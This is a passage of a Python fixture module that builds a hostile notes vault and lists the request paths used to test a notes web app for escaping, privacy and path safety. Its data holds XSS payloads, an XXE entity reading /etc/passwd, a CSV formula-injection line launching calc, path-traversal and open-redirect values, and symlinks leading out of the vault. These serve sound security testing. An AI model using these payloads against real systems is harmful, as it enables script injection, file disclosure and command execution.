    Note("images/special.md", "# Special\n\n![a](files/pipe.png) ![b](files/folder.png) ![c](files/loop.png) ![d](files/empty.png) ![e](files/nowhere.png) ![f](files/unreadable.png)", "pipes, folders, loops and empty files answer at once and hold nothing up"),
    Note("images/many.md", "# Many\n\n" + "![a](files/dot.png)\n" * 3000, "3,000 images do not make a page of a megabyte"),
    Note("images/query.md", "# Query\n\n![a](files/dot.png?token=x) ![b](files/dot.png#x) ![c](/do/undo) ![d](/note/people/anna.md) ![e](/events) ![f](/memory/search?q=x)", "an image asks for no page and no action"),
]
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' onload='{RUN}(1)'><script>{RUN}(2)</script><image href='https://{REMOTE}/a.png'/><a xlink:href='javascript:{RUN}(3)'><text y='9'>x</text></a><style>@import url(https://{REMOTE}/x.css);</style></svg>"
FILES: dict[str, bytes] = {
    "files/dot.png": PNG,
    "files/a b\"><.png": PNG,
    "files/new\nline.png": PNG,
    "files/pic?x=1#y.png": PNG,
    "files/script.svg": SVG.encode(),
    "files/doctype.svg": f"<?xml version='1.0'?><?xml-stylesheet href='//{REMOTE}/x.xsl'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>".encode(),
    "files/foreign.svg": f"<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='{RUN}(1)'><iframe src='javascript:{RUN}(2)'/></body></foreignObject></svg>".encode(),
    "files/page.html": f"<script>{RUN}(1)</script>{INSIDE}".encode(),
    "files/page.html.png": f"<html><script>{RUN}(1)</script>".encode(),
    "files/page.png.html": f"<script>{RUN}(1)</script>{INSIDE}".encode(),
    "files/fake.png": f"<!DOCTYPE html><script>{RUN}(1)</script>".encode(),
    "files/run.js": f"{RUN}(1) // {INSIDE}".encode(),
    "files/style.css": f"@import url(//{REMOTE}/x.css); /* {INSIDE} */".encode(),
    "files/table.csv": f"=cmd|'/c calc'!A1,{INSIDE}".encode(),
    "files/paper.pdf": f"%PDF-1.4 {INSIDE}".encode(),
    "files/noext": INSIDE.encode(),
    "files/empty.png": b"",
    "drafts/pic.png": PNG + IGNORED.encode(),
    ".git/config": f"[core]\n\tx = {INSIDE}\n".encode(),
    ".git/HEAD": b"ref: refs/heads/kestrel\n",
    ".git/secret.png": PNG + INSIDE.encode(),
    ".git/notes.md": f"# {INSIDE}\n".encode(),
    ".aurelius/secret.png": PNG + INSIDE.encode(),
    ".aurelius/notes.md": f"# {INSIDE}\n".encode(),
    ".aurelius/log/device/2026-02.jsonl": f'{{"{INSIDE}": 1}}\n'.encode(),
    ".aurelius/config.toml": f"# {INSIDE}\n".encode(),
    ".obsidian/app.json": f'{{"x": "{INSIDE}"}}'.encode(),
    ".obsidian/notes.md": f"# {INSIDE}\n".encode(),
    ".env": f"KEY={INSIDE}\n".encode(),
    ".aureliusignore": b"drafts/\n/hidden-note.md\n",
}
"""Files that are no notes; those of FORBIDDEN words are never shown or served, images among them neither."""

SYMLINKS = {
    "files/out.png": "../../outside.png",
    "files/absolute.png": "/etc/hostname",
    "files/folder": "../..",
    "files/loop.png": "loop.png",
    "links/out.md": "../../outside.md",
    "links/etc.md": "/etc/passwd",
    "way-out": "..",
    "files/git.png": "../.git/secret.png",
    "links/private.md": "../people/vera.md",
    "links/ignored.md": "../drafts/plan.md",
}
"""Where each leads; nothing is shown through them that would not be shown without."""
OUTSIDE_FILES = {
    "outside.md": f"# {OUTSIDE}\n\n- {OUTSIDE} text (2026-01-01) ^{OUTSIDE[:6]}\n".encode(),
    "outside.png": PNG + OUTSIDE.encode(),
}

# --- facts and days ------------------------------------------------------------------------------------------------

FACTS = [
    Note(
        "people/hank.md",
        f"---\ntype: person\naliases: ['Hank {SCRIPT}']\ntags: [friend]\nupdated: 2026-02-01\n---\n# Hank\n\n"
        f"## Summary\nA friend {SCRIPT}.\n\n"
        "## Facts\n"
        f"- Lives at {SCRIPT} (2026-02-01) ^hanka1\n"
        f"- Works at [[companies/{ONERROR.replace('/', '')}]] (2026-01-15, milestone) ^hanka2\n"
        f"- Says {BREAKOUT} (2026-01-20, from [x](javascript:{RUN}(1)), because {SCRIPT}) ^hanka3\n"
        f"- Asked for {ONERROR} (2026-01-21, from [[memory/2026-02-09]], because ^\"><img) ^hanka4\n"
        "- type:: <b>decision</b> takes tea (2026-01-22) #<script> ^hanka5\n"
        f"- Has an id (2026-01-23) ^\"><img src=x onerror={RUN}(1)>\n"
        "- Has a date (2026-99-99) ^hanka6\n"
        "- Has a date (99999-01-01 → 2026-01-01) ^hanka7\n"
        f"- Has words of importance (2026-01-24, importance {SCRIPT}, scope 1e999) ^hanka8\n"
        "- Replaces itself (2026-01-25, updates ^hanka9) ^hanka9\n"
        "- Goes round (2026-01-26, updates ^hankb2) ^hankb1\n"
        "- Goes round too (2026-01-27, updates ^hankb1) ^hankb2\n"
        "- Has an id of another (2026-01-28) ^vera01\n"
        f"- Is part (2026-01-29, part of [[{SCRIPT}]]) ^hankb3\n\n"
        "## Relationships\n"
        f"- [[people/anna]] - {SCRIPT}\n- [[javascript:{RUN}(1)]] - {ONERROR}\n\n"
        "## History\n"
        f"- ~~Lived at {ONERROR}~~ (2025-03-01 → 2026-02-01, superseded by ^hanka1) ^hankc1\n"
        f"- ~~{SCRIPT}~~ (2025-03-01 → 2026-02-01, superseded by ^\"><script>) ^hankc2\n",
        "facts, ids, tags, sources, reasons and chains are text; a circle of facts ends",
    ),
    Note("people/anna.md", "---\ntype: person\n---\n# Anna\n\n## Facts\n- Plays the cello (2026-01-01) ^anna01\n- Knows [[people/vera]] (2026-01-02) ^anna02\n- Replaces (2026-01-03, updates ^vera01) ^anna03\n- Was replaced (2026-01-01, superseded by ^vera02) ^anna04\n", "a fact that replaces a private one, or is replaced by it, tells nothing of it"),
    Note("people/chain.md", "# Chain\n\n## Facts\n" + "".join(f"- Value {number} (2026-01-01, updates ^c{number - 1:05d}) ^c{number:05d}\n" for number in range(1, 800)), "a chain of 800 facts ends and stays within 100 kB"),
    Note("people/many-facts.md", "# Many facts\n\n## Facts\n" + "".join(f"- Fact {number} about things (2026-01-01) ^m{number:05d}\n" for number in range(3000)), "3,000 facts come in parts", last=False),
    Note("memory/2026-02-09.md", f"# Monday\n\n- Met [[people/hank]] and {SCRIPT}\n- {ONERROR} #<b>\n\n## Captured\n- Anna said {BREAKOUT} (2026-02-09) ^capt01\n- **{SCRIPT}** lives in Rome (2026-02-09) ^capt02\n\n## Session \"><script>pwned(1)</script>\n- x (2026-02-09)\n\n## Tasks\n- [ ] call {SCRIPT} \U0001f4c5 2026-02-10\n", "the timeline, the review and the tasks show them as text"),
    Note("MEMORY.md", f"# Memory {SCRIPT}\n\n## Now\n{ONERROR}\n\n- Never {SCRIPT} (2026-01-01, instruction, pinned)\n", "the overview shows them as text"),
    Note("ME.md", f"# Me {SCRIPT}\n\n- Is {ONERROR} (2026-01-01, identity)\n", "as above"),
    Note("projects/_index.md", f"# Index {SCRIPT}\n\n- {ONERROR}\n", "as above"),
    Note("archives/old.md", f"---\nstatus: archived\n---\n# Old {SCRIPT}\n", "archived notes are as harmless"),
]

# --- private and ignored -------------------------------------------------------------------------------------------

_VERA = (
    "---\nprivate: true\ntitle: Quillon title\naliases: [quillonalias, Vera Quillon]\ntags: [quillontag]\nquillonkey: quillonvalue\ntype: person\n---\n"
    "# Quillon heading\n\n## Facts\n- Vera keeps a quillonfact (2026-01-09, updates ^anna01) ^vera01\n- Vera has a quillonsecond (2026-01-10) ^vera02\n\n"
    "## Tasks\n- [ ] buy quillonpaper \U0001f4c5 2026-02-11 #quillontask\n\n## Quillon part\nMet [[people/anna]] and Hank.\n"
)
HIDDEN = [
    Note("people/vera.md", _VERA, "404, like a note that is not there; in no list, count, picture, search, timeline or task", last=False),
    Note("memory/2026-02-07.md", "---\nprivate: true\n---\n# A quillonday\n\n- quillonline with [[people/anna]]\n- [ ] quillontask\n", "a private day is an empty day", last=False),
    Note("projects/vault.md", "---\nprivate: yes\nstatus: active\n---\n# Quillon project\n\n![[files/dot.png]]\n", "as above", last=False),
    Note("people/broken.md", "---\nprivate: true\nquillonyaml: [\n---\n# Quillon broken\n- quillon text ^vera01\n", "front matter that cannot be read and says private hides the note", last=False),
    Note("drafts/plan.md", "# Bracken plan\n\n- brackenfact about [[people/anna]] (2026-01-01) ^brack1\n", "an ignored note is 404 and nowhere", last=False),
    Note("hidden-note.md", "# Bracken note\n\n[[people/anna]]\n", "as above", last=False),
    Note("links/to-private.md", "# To private\n\n[[people/vera]] [[people/vera|shown]] [x](../people/vera.md) [[people/nowhere]] [[vera]] [[people/vera#Facts]] [[people/vera#^vera01]]", "a link to a private note looks as one to no note"),
    Note("links/embed-private.md", "# Embed private\n\n![[people/vera]]\n\n![[people/vera#Facts]]\n\n![[people/vera#^vera01]]\n\n![[memory/2026-02-07]]\n\n![[drafts/plan]]\n\n![[hidden-note]]\n\n![[.git/notes]]\n\n![[.aurelius/notes.md]]\n\n![[.obsidian/notes]]", "an embed of what is hidden shows none of it"),
    Note("links/through.md", "# Through\n\n![[links/embed-private]]\n\n![[links/private]]\n\n![[links/ignored]]\n\n![[links/out]]\n\n![[way-out/outside]]", "nor through another note, nor through a link of the file system"),
]

# --- sizes, depths, bytes ------------------------------------------------------------------------------------------

KB200 = 200_000
SIZES = [
    Note("huge/one-line.md", "# One line\n\n" + "word " * 400_000, "2 MB in a line: the first part at once, within 100 kB", last=False),
    Note("huge/lines.md", "# Lines\n\n" + "A line of text that is long enough to count. \n\n" * 40_000, "1.9 MB: the first part at once, within 100 kB; the other parts can be opened", last=False),
    Note("huge/no-space.md", "# No space\n\n" + "x" * 1_000_000, "a megabyte without a space", last=False),
    *(
        Note(f"huge/{name}.md", f"# {name}\n\n" + mark * (KB200 // len(mark)), f"200 kB of {mark!r} end within a second, and the page is whole", last=False)
        for name, mark in {
            "brackets": "[[",
            "closed-brackets": "]]",
            "one-bracket": "[",
            "bracket-paren": "[](",
            "bang": "![[",
            "stars": "*",
            "stars-spaced": "* ",
            "star-a": "*a ",
            "underscores": "_a",
            "quotes": ">",
            "quotes-spaced": "> ",
            "ticks": "`",
            "ticks-spaced": "`a``b```",
            "pipes": "|",
            "pipes-lines": "|-|\n",
            "tags": "#tag",
            "tags-spaced": "#tag ",
            "tildes": "~",
            "equals": "==",
            "dashes": "-",
            "dashes-lines": "- \n",
            "angles": "<",
            "angle-a": "<a ",
            "comments": "<!--",
            "cdata": "<![CDATA[",
            "processing": "<?",
            "ampersands": "&",
            "entities": "&amp;",
            "dollars": "$",
            "carets": "^",
            "footnotes": "[^1]",
            "footnote-inline": "^[",
            "definitions": "[a]: b\n",
            "callouts": "> [!x]\n\n",
            "backslashes": "\\",
            "colons": "::",
            "percent": "%%",
            "braces": "{{",
            "urls": "https://a.b ",
            "ws": " ",
            "tabs": "\t",
            "newlines": "\n",
            "breaks": "  \n",
            "zero-width": "\u200b",
            "bidi": "\u202e",
            "accents": "e\u0301",
            "nul": "\x00",
            "headings": "# h\n",
            "heading-marks": "#",
            "tasks": "- [ ] t\n",
            "ids": "- x ^abcdef\n",
            "embeds": "![[people/anna]] ",
            "links": "[[people/anna]] ",
            "images": "![](files/dot.png)\n",
            "star-underscore": "*_",
            "star-link": "*[a](b)",
            "link-row": "[link](x)",
            "link-open": "[](",
            "link-title": "[]( \"",
            "link-angle": "[a](<b",
            "bracket-close-open": "][",
            "strong-angle": "**<a>**a",
            "star-words": "*x *x ",
            "list-star": "- *",
            "numbers": "1. ",
            "numbers-lines": "1. a\n",
            "strikes": "~~a",
            "strike-row": "~~a~~",
            "double-quotes": "\"a",
            "attributes": "<a b=\"",
            "mails": "a@b.c ",
            "schemes": "http://",
            "www": "www.",
            "wiki-pipes": "[[a|",
            "wiki-hashes": "[[a#",
            "math-row": "$a$ ",
            "code-row": "`a` ",
            "copy-signs": "(c)",
            "fences": "```\n",
            "fence-tildes": "~~~a\n",
            "setext": "a\n=\n",
            "rules": "***\n",
            "definition-colons": "a\n: b\n",
            "definitions-open": "[a]: \n",
            "callout-deep": "> [!a]\n> ",
            "quote-list": "> - ",
            "properties": "a:: b\n",
            "dates": "2026-02-10 ",
            "fields": "[a:: b] ",
            "comment-lines": "<!-- a -->\n",
            "blocks-html": "<div>\n\n",
            "escapes": "\\[",
            "cells": "|a|b|\n|-|-|\n",
            "facts": "- a (2026-01-01)\n",
        }.items()
    ),
    Note("deep/quotes.md", "# Quotes\n\n" + ">" * 1000 + " deep", "1,000 quotes", last=False),
    Note("deep/lists.md", "# Lists\n\n" + "\n".join("  " * depth + "- x" for depth in range(500)), "500 levels of a list", last=False),
    Note("deep/numbered.md", "# Numbered\n\n" + "\n".join("   " * depth + "1. x" for depth in range(500)), "as above", last=False),
    Note("deep/one-line.md", "# One line\n\n" + "- " * 1000 + "x", "1,000 lists in a line", last=False),
    Note("deep/mixed.md", "# Mixed\n\n" + "> - " * 500 + "x", "as above, mixed", last=False),
    Note("deep/emphasis.md", "# Emphasis\n\n" + "*_" * 2000 + "x" + "_*" * 2000, "2,000 marks within each other", last=False),
    Note("deep/brackets.md", "# Brackets\n\n" + "[" * 2000 + "x" + "](y)" * 2000, "2,000 links within each other", last=False),
    Note("deep/images.md", "# Images\n\n" + "![" * 2000 + "x" + "](y)" * 2000, "2,000 images within each other", last=False),
    Note("deep/html.md", "# HTML\n\n" + "<div>" * 5000 + "x", "5,000 elements within each other", last=False),
    Note("deep/callouts.md", "# Callouts\n\n" + "\n".join("> " * depth + "[!note] x" for depth in range(1, 200)), "200 callouts within each other", last=False),
    Note("deep/headings.md", "".join(f"{'#' * (number % 6 + 1)} Heading {number}\n\n" for number in range(3000)), "3,000 headings: no list of contents of a megabyte"),
    Note("bytes/nul.md", b"# Nul\x00title\n\na\x00b <scr\x00ipt>pwned(1)</script>", "a NUL joins nothing"),
    Note("bytes/latin.md", b"# Caf\xe9 <script>pwned(1)</script>\n\n\xff\xfe\xfd", "bytes that are no UTF-8 are shown as such", last=False),
    Note("bytes/overlong.md", b"# Overlong\n\n\xc0\xbcscript\xc0\xbepwned(1)\xc0\xbc/script\xc0\xbe \xe0\x80\xbcb", "an overlong < is no <", last=False),
    Note("bytes/utf16.md", "# UTF-16 <script>pwned(1)</script>".encode("utf-16"), "is shown or told as one that is no text", last=False),
    Note("bytes/utf7.md", "# +ADw-script+AD4-pwned(1)+ADw-/script+AD4-", "the answer says its charset is UTF-8"),
    Note("bytes/bom.md", b"\xef\xbb\xbf---\ntitle: Bom\n---\n# Bom", "opens"),
    Note("bytes/crlf.md", b"---\r\ntitle: Crlf\r\n---\r\n# Crlf\r\n\r\n- [ ] task\r\n\r\n<script>\r\npwned(1)\r\n</script>\r\n", "opens"),
    Note("bytes/cr.md", b"# Cr\r\r- a\r- b\r\r<script>pwned(1)</script>\r", "opens"),
    Note("bytes/separators.md", "# Separators\u2028line\u2029para\u0085next\x0bvt\x0cff", "lines are counted as the file has them"),
    Note("bytes/binary.md", bytes(range(256)) * 40, "is told or shown, nothing fails", last=False),
    Note("bytes/empty.md", b"", "an empty note has a page", last=False),
    Note("bytes/one.md", b"\n", "as above", last=False),
]
NOTES = [*TITLES, *PROPERTIES, *NAMES, *LINKS, *RAW, *IMAGES, *FACTS, *HIDDEN, *SIZES]
HIDDEN_PATHS = frozenset(note.path for note in HIDDEN if not note.last)

# --- addresses -----------------------------------------------------------------------------------------------------

GONE = (404,)
ANY_PAGE = (200, 303, 307, 308, 400, 404)
ASKED = [
    *(Asked(f"/note/{path}", GONE, "a hidden note is as one that is not there") for path in ("people/vera.md", "people/vera", "memory/2026-02-07.md", "projects/vault.md", "people/broken.md", "drafts/plan.md", "hidden-note.md", "links/private.md", "links/ignored.md", "links/out.md", "links/etc.md", "way-out/outside.md", "way-out/vault/people/vera.md")),
    *(Asked(f"/note/{path}", GONE, "files that are no notes have no page") for path in (".git/config", ".git/HEAD", ".git/notes.md", ".aurelius/config.toml", ".aurelius/notes.md", ".aurelius/log/device/2026-02.jsonl", ".obsidian/app.json", ".obsidian/notes.md", ".env", ".aureliusignore", "files/dot.png", "files/page.html", "files/run.js", "files/table.csv")),
    *(Asked(f"/file/{path}", GONE, "only images of the vault's open folders are served") for path in (".git/config", ".git/secret.png", ".aurelius/secret.png", ".aurelius/config.toml", ".env", "drafts/pic.png", "people/anna.md", "people/vera.md", "files/page.html", "files/page.png.html", "files/run.js", "files/style.css", "files/table.csv", "files/paper.pdf", "files/noext", "files/out.png", "files/absolute.png", "files/folder/outside.png", "files/git.png", "files/loop.png", "files/pipe.png", "files/folder.png", "files/nowhere.png", "../outside.png", "%2e%2e/outside.png", "files/%2e%2e/%2e%2e/outside.png", "files/..%2f..%2foutside.png", "files/..%5c..%5coutside.png", "/etc/passwd", "%2fetc%2fpasswd", "files", "files/", "")),
    Asked("/file/files/dot.png", (200,), "an image is served as image/png with nosniff"),
    Asked("/file/files/script.svg", (200, 404), "if it is served, then with a rule that runs and loads nothing"),
    Asked("/file/files/fake.png", (200, 404), "never as HTML"),
    Asked("/file/files/page.html.png", (200, 404), "never as HTML"),
    *(Asked(f"/fact/{id}", GONE, "a private fact is as one that is not there") for id in ("vera02", "brack1", "nosuch", "%22%3E%3Cimg%20src%3Dx%20onerror%3Dpwned(1)%3E", "%3Cscript%3E", "../hanka1", "%00", "a" * 3000)),
    *(Asked(f"/fact/{id}", (200,), "the page of a fact is as harmless as its note's") for id in ("hanka1", "hanka2", "hanka3", "hanka4", "hanka8", "hanka9", "hankb1", "hankb2", "hankc1", "anna03", "anna04", "c00799", "c00001", "capt01")),
    Asked("/fact/vera01", (200, 404), "the id of a private fact and of an open one: the open one alone"),
    *(Asked(page, (200,), "holds the hostile names as text and is within 100 kB") for page in ("/memory", "/memory/people", "/memory/projects", "/memory/companies", "/memory/timeline", "/review", "/tasks", "/health", "/settings")),
    *(Asked(f"/memory/search?q={question}", (200, 400), "the question comes back as text") for question in ("%3Cscript%3Epwned(1)%3C/script%3E", "%22%3E%3Cimg%20src%3Dx%20onerror%3Dpwned(1)%3E", "%27%22%3E", "%7B%7B7*7%7D%7D", "anna", "cello", "quilon", "vera", "%00", "%ff%fe", "%0d%0aSet-Cookie:%20x", "a" * 5000, "%22", "(", "*", "-", "type:%3Cb%3E", "", "+", "NEAR(", "%E2%80%AEabc", "script", "lives&kind=%3Cscript%3E", "lives&kind=person&kind=company", "lives&type=%22%3E%3Csvg%20onload%3Dpwned(1)%3E", "lives&tag=%3Cb%3E", "lives&in=../..", "lives&since=%3Cscript%3E", "lives&n=999999999", "lives&n=-1", "lives&page=1e9", "lives&where=x%20~%20(a%2B)%2B%24")),
    *(Asked(target, ANY_PAGE, "words of an address are text, numbers are bounded") for target in ("/memory/%3Cscript%3Epwned(1)%3C%2Fscript%3E", "/memory/..%2f..", "/memory/people?page=-1", "/memory/people?page=99999999999999999999", "/memory/people?page=%3Cscript%3E", "/memory/people?from=%22%3E%3Cimg%20src%3Dx%20onerror%3Dpwned(1)%3E", "/memory/timeline?month=%3Cscript%3E", "/memory/timeline?month=9999-99", "/memory/timeline?year=-1", "/memory/timeline?day=0000-00-00", "/note/people/hank.md?part=-1", "/note/people/hank.md?part=99999999", "/note/people/hank.md?at=%3Cscript%3E", "/note/huge/lines.md?part=2", "/fact/hanka1?on=%3Cscript%3E", "/fact/hanka1?as-of=9999-99-99", "/review?%3Cscript%3E=1", "/tasks?due=%3Cscript%3E", "/%3Cscript%3Epwned(1)%3C/script%3E", "/memory?message=%3Cscript%3Epwned(1)%3C/script%3E", "/memory?undo=%22%3E%3Cimg%20src%3Dx%20onerror%3Dpwned(1)%3E", "/memory?next=//evil.invalid", "/memory?return=javascript:pwned(1)")),
]


def build(root: Path, notes: list[Note] = NOTES) -> Path:
    """The hostile vault in a new folder `vault` of `root`, of these notes, with what lies beside it; returned is the vault.

    A name that the file system refuses is left out, and told.
    """
    vault = root / "vault"
    vault.mkdir(parents=True)
    for name, data in OUTSIDE_FILES.items():
        (root / name).write_bytes(data)
    for path, data in {**FILES, **{note.path: note.data for note in notes}}.items():
        _write(vault / path, data)
    for path, target in SYMLINKS.items():
        (vault / path).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, vault / path)
    os.mkfifo(vault / "files/pipe.png")
    os.mkfifo(vault / "names/pipe.md")
    (vault / "files/folder.png").mkdir()
    (vault / "names/folder.md").mkdir()
    return vault


def _write(path: Path, data: bytes) -> None:
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    except OSError as error:
        sys.stderr.write(f"left out: {ascii(path.name)[:60]}: {error.strerror}\n")


if __name__ == "__main__":
    print(build(Path(sys.argv[1])), len(NOTES), "notes", len(ASKED), "addresses")  # noqa: T201
